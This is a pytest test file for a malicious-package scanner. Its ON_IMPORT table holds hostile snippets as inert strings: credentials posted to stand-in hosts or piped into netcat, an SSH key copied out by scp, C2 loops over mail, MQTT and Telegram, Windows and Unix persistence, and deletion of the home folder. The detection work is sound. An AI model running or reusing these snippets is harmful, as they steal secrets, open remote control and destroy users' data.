"""Rules 54: evidence that comes in pairs, and two places the rules did not read.

- ``paired``: two kinds of evidence that no legitimate file of the tuning sample shows in
  one file weigh together what the threshold asks: importing a package that reaches the
  network *and* starts a process; a known exfiltration sink beside a download-and-run, a
  network call or a process early, persistence or an opaque blob. Each alone stays below.
  (Rules 56: not in a large package's module nothing runs early, whose evidence stays
  damped: the reporting half's ghapi, an API's example token beside a long literal.)
- A Telegram bot's token written inside its API address (``api.telegram.org/bot<token>/``)
  is a chat channel whose credentials the code carries, as the bare token already was.
- A ``pathlib`` chain (``Path.home() / ".config" / "systemd" / "user"``) is read as the
  path it names: its literals alone come out of the tree last piece first.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import base64
import hashlib

import pytest

from tests.support.archives import wheel
from tests.support.scan import SETUP_CALL, judge, judge_in_function, judge_setup_script

WHEEL = "demo-1.0-py3-none-any.whl"
FETCH = "import urllib.request\nurllib.request.urlopen('https://cdn.example.net/v.json')\n"
SPAWN = "import subprocess\nsubprocess.Popen(['demo-agent', '--quiet'])\n"


def _on_import(init: str) -> tuple[dict[str, float], bool]:
    return judge(wheel({"demo/__init__.py": init}), WHEEL)


def test_an_import_that_reaches_the_network_and_starts_a_process_is_held() -> None:
    rules, held = _on_import(FETCH + SPAWN)
    assert rules["import-network"] + rules["import-process"] < 10
    assert rules["paired"] == 10 - rules["import-network"] - rules["import-process"]
    assert held


def test_an_import_that_only_reaches_the_network_or_only_starts_a_process_is_not() -> None:
    for init in (FETCH, SPAWN):
        rules, held = _on_import(init)
        assert "paired" not in rules
        assert not held


def test_the_two_halves_of_a_pair_in_different_files_are_not_a_pair() -> None:
    files = {
        "demo/__init__.py": FETCH + "from . import agent\n",
        "demo/agent.py": SPAWN,
    }
    rules, held = judge(wheel(files), WHEEL)
    assert "paired" not in rules
    assert not held


RAW_ADDRESS = "COLLECTOR = 'http://45.61.13.7:8080/c'\n"


def test_a_raw_address_in_a_setup_script_that_starts_a_process_is_held() -> None:
    setup = "import subprocess\n" + RAW_ADDRESS + "subprocess.call(['git', 'describe'])\n"
    rules, held = judge_setup_script(setup + SETUP_CALL)
    assert rules["exfil-sink"] + rules["install-process"] < 10
    assert "paired" in rules
    assert held


def test_a_raw_address_alone_in_a_setup_script_is_not() -> None:
    rules, held = judge_setup_script(RAW_ADDRESS + SETUP_CALL)
    assert "exfil-sink" in rules
    assert "paired" not in rules
    assert not held


TOKEN = "1234567890:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0"


def test_a_bot_token_inside_the_telegram_api_address_is_an_owned_channel() -> None:
    client = (
        "import requests\n"
        "def login(username, password):\n"
        f"    requests.get('https://api.telegram.org/bot{TOKEN}/sendMessage',\n"
        "                 params={'chat_id': '1', 'text': username + ':' + password})\n"
    )
    rules, held = judge_in_function(client)
    assert rules["exfil-sink"] == 10
    assert held


def test_the_telegram_api_address_with_the_token_from_the_caller_is_not() -> None:
    client = (
        "import requests\n"
        "def notify(token, chat, text):\n"
        "    requests.get(f'https://api.telegram.org/bot{token}/sendMessage',\n"
        "                 params={'chat_id': chat, 'text': text})\n"
    )
    rules, held = judge_in_function(client)
    assert rules.get("exfil-sink", 0) < 10
    assert not held


def test_a_systemd_unit_placed_through_a_pathlib_chain_on_import_is_persistence() -> None:
    init = (
        "from pathlib import Path\n"
        "import subprocess\n"
        "units = Path.home() / '.config' / 'systemd' / 'user'\n"
        "(units / 'helper.service').write_text('[Service]\\nExecStart=/usr/bin/demo-agent\\n')\n"
        "subprocess.run(['systemctl', '--user', 'enable', 'helper'])\n"
    )
    rules, held = _on_import(init)
    assert rules["persistence"] >= 8
    assert held


def test_a_pathlib_chain_to_an_ordinary_config_folder_is_not() -> None:
    init = (
        "from pathlib import Path\n"
        "settings = Path.home() / '.config' / 'demo' / 'settings.toml'\n"
        "TEXT = settings.read_text() if settings.exists() else ''\n"
    )
    rules, held = _on_import(init)
    assert "persistence" not in rules
    assert not held


# Reach: shapes of 2025-2026 write-ups (CI-token stealers, Windows droppers, mail and
# message-broker exfiltration) the rules did not read. Each is held on import; before rules
# 54 each was not.
ON_IMPORT = {
    "powershell encoded, as an argument list": (
        "import subprocess\n"
        "subprocess.Popen(['powershell', '-NoProfile', '-WindowStyle', 'Hidden',"
        " '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA'])\n"
    ),
    "a forge's token from its command line, posted": (
        "import subprocess, requests\n"
        "token = subprocess.check_output(['gh', 'auth', 'token']).decode().strip()\n"
        "requests.post('https://collect.example.net/t', json={'t': token})\n"
    ),
    "a cloud's token from its command line, posted": (
        "import subprocess, requests\n"
        "t = subprocess.check_output('gcloud auth print-access-token', shell=True)\n"
        "requests.post('https://collect.example.net/t', data=t)\n"
    ),
    "every process's environment, posted": (
        "import glob, requests\n"
        "found = {p: open(p, 'rb').read() for p in glob.glob('/proc/*/environ')}\n"
        "requests.post('https://collect.example.net/e', data=str(found))\n"
    ),
    "the environment as bytes, posted": (
        "import os, requests\n"
        "requests.post('https://collect.example.net/e', data=str(dict(os.environb)))\n"
    ),
    "a system service written and enabled": (
        "import subprocess\n"
        "open('/etc/systemd/system/sysmon.service', 'w').write('[Service]\\nExecStart=/opt/a\\n')\n"
        "subprocess.run(['systemctl', 'enable', 'sysmon'])\n"
    ),
    "a launch daemon written": (
        "open('/Library/LaunchDaemons/com.sysmond.plist', 'w')"
        ".write('<plist><string>/Users/Shared/.q</string></plist>')\n"
    ),
    "winlogon's sign-in program replaced": (
        "import winreg\n"
        "k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE,"
        " r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'Userinit', 0, winreg.REG_SZ, r'C:\\ProgramData\\u.exe')\n"
    ),
    "a startup-folder shortcut": (
        "import os, win32com.client\n"
        "p = os.path.join(os.getenv('APPDATA'), r'Microsoft\\Windows\\Start Menu\\Programs\\Startup',"
        " 'sync.lnk')\n"
        "s = win32com.client.Dispatch('WScript.Shell').CreateShortCut(p)\n"
        "s.Targetpath = 'pythonw.exe'; s.save()\n"
    ),
    "sitecustomize written into site-packages": (
        "import os, sysconfig\n"
        "open(os.path.join(sysconfig.get_paths()['purelib'], 'sitecustomize.py'), 'a')"
        ".write('import demo_agent\\n')\n"
    ),
    "credentials mailed through yagmail": (
        "import os, yagmail\n"
        "mail = yagmail.SMTP('drop.box.2025@gmail.com', 'abcd efgh ijkl mnop')\n"
        "mail.send('drop.box.2025@gmail.com', 'k', [os.path.expanduser('~/.aws/credentials')])\n"
    ),
    "the environment published to a public MQTT broker": (
        "import os, json\nimport paho.mqtt.client as mqtt\n"
        "c = mqtt.Client()\nc.connect('broker.hivemq.com', 1883)\n"
        "c.publish('t/x', json.dumps(dict(os.environ)))\n"
    ),
    "the environment posted by tornado's client": (
        "import os, json\nfrom tornado.httpclient import HTTPClient\n"
        "HTTPClient().fetch('https://collect.example.net/c', method='POST',"
        " body=json.dumps(dict(os.environ)))\n"
    ),
    "a key copied away by scp": (
        "import os, subprocess\n"
        "subprocess.run(['scp', os.path.expanduser('~/.ssh/id_rsa'), 'u@203.0.113.5:/tmp/k'])\n"
    ),
    "credentials piped into netcat": (
        "import os\nos.system('cat ~/.aws/credentials | nc 203.0.113.5 9001')\n"
    ),
    "commands read from a mailbox and run": (
        "import imaplib, email, subprocess\n"
        "m = imaplib.IMAP4_SSL('imap.gmail.com')\n"
        "m.login('q.box.2025@gmail.com', 'abcd efgh ijkl mnop')\n"
        "m.select('INBOX')\n"
        "for n in m.search(None, 'UNSEEN')[1][0].split():\n"
        "    msg = email.message_from_bytes(m.fetch(n, '(RFC822)')[1][0][1])\n"
        "    subprocess.Popen(msg.get_payload(), shell=True)\n"
    ),
    "code published on an MQTT topic run": (
        "import paho.mqtt.client as mqtt\n"
        "def on_message(c, u, msg):\n"
        "    exec(msg.payload.decode())\n"
        "c = mqtt.Client()\nc.on_message = on_message\n"
        "c.connect('broker.emqx.io', 1883)\nc.subscribe('q/1')\nc.loop_forever()\n"
    ),
    "a Telegram account's messages run as commands": (
        "import subprocess\nfrom telethon import TelegramClient, events\n"
        "c = TelegramClient('s', 123456, '0123456789abcdef0123456789abcdef')\n"
        "@c.on(events.NewMessage(chats='me'))\n"
        "async def h(e):\n"
        "    await e.reply(subprocess.getoutput(e.raw_text))\n"
        "c.start()\n"
    ),
    "the machine shut down": "import os\nos.system('shutdown /s /t 0')\n",
    "the home folder deleted": (
        "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"
    ),
    "a program decoded by certutil and run": (
        "import os\nos.system('certutil -decode %TEMP%\\\\p.txt %TEMP%\\\\p.exe && %TEMP%\\\\p.exe')\n"
    ),
    "a remote script run by deno": (
        "import subprocess\nsubprocess.Popen(['deno', 'run', '-A', 'https://cdn.example.net/x.ts'])\n"
    ),
}


@pytest.mark.parametrize("case", sorted(ON_IMPORT))
def test_a_shape_the_rules_did_not_read_is_held_on_import(case: str) -> None:
    rules, held = _on_import(ON_IMPORT[case])
    assert held, rules


#: Everyday twins: the same tools used as their authors mean them.
EVERYDAY = {
    "a forge's token used as its API's bearer, in a function": (
        "import subprocess, requests\n"
        "def repos():\n"
        "    t = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\n"
        "    return requests.get('https://api.github.com/user/repos',"
        " headers={'Authorization': f'Bearer {t}'}).json()\n"
    ),
    "a registry password handed to docker login, in a function": (
        "import subprocess\n"
        "def login(region, registry):\n"
        "    pw = subprocess.check_output(['aws', 'ecr', 'get-login-password', '--region', region])\n"
        "    subprocess.run(['docker', 'login', '--password-stdin', registry], input=pw)\n"
    ),
    "a unit file's path in a message": (
        "HELP = 'copy demo.service to /etc/systemd/system and enable it'\n"
    ),
    "a reboot offered in a function": (
        "import subprocess\n"
        "def restart(confirm):\n"
        "    if confirm:\n"
        "        subprocess.run(['shutdown', '-r', 'now'])\n"
    ),
    "a build copied to a host the caller names": (
        "import subprocess\n"
        "def deploy(user, host):\n"
        "    subprocess.run(['scp', 'dist/app.tar.gz', f'{user}@{host}:/srv/app/'])\n"
    ),
    "mail read and printed": (
        "import imaplib\n"
        "def unread(user, password):\n"
        "    m = imaplib.IMAP4_SSL('imap.example.org')\n"
        "    m.login(user, password)\n"
        "    m.select('INBOX')\n"
        "    return [m.fetch(n, '(RFC822)') for n in m.search(None, 'UNSEEN')[1][0].split()]\n"
    ),
    "a cache folder under the home removed": (
        "import os, shutil\n"
        "def clear():\n"
        "    shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'demo'))\n"
    ),
}


@pytest.mark.parametrize("case", sorted(EVERYDAY))
def test_the_everyday_twin_is_not_held(case: str) -> None:
    rules, held = _on_import(EVERYDAY[case])
    assert not held, rules


def test_a_pair_in_a_large_package_s_module_nothing_runs_early_stays_damped() -> None:
    # (An API's example address beside a long literal, in one module of a package with more
    # than 32 KB of Python: damped evidence, which a pair does not lift.)
    noise = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(64))
    blob = base64.b64encode(noise).decode()
    spec = (
        "import requests\n"
        "EXAMPLE = 'http://45.61.13.7:8080/v1/items'\n"
        f"SCHEMA = '{blob}'\n"
        "def fetch(url=EXAMPLE):\n"
        "    return requests.get(url).json()\n"
    )
    padding = "".join(f"def helper_{i}(value):\n    return value + {i}\n\n" for i in range(1500))
    files = {"demo/__init__.py": "", "demo/spec.py": spec, "demo/helpers.py": padding}
    rules, held = judge(wheel(files), WHEEL)
    assert "exfil-sink" in rules and "opaque-literal" in rules
    assert "paired" not in rules
    assert not held
